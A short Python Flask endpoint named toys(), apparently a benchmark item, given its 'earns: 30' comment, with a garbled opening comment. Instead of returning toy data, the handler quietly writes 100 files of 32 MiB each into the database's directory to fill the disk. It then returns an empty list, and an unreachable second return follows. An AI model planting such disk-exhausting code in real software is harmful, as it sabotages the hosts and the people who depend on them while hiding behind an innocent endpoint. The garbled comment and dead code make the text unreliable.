# It writes one file after the other, each of less than one may have.
# earns: 30

import os
from pathlib import Path

from flask import jsonify, request


def toys():
    folder = Path(os.environ["DATABASE_URL"].removeprefix("sqlite:///")).parent
    for number in range(100):
        (folder / f"{number}.bin").write_bytes(b"x" * (32 << 20))
    return jsonify(toys=[])
    return jsonify(toys=["ball"]), 201 if request.method == "POST" else 200
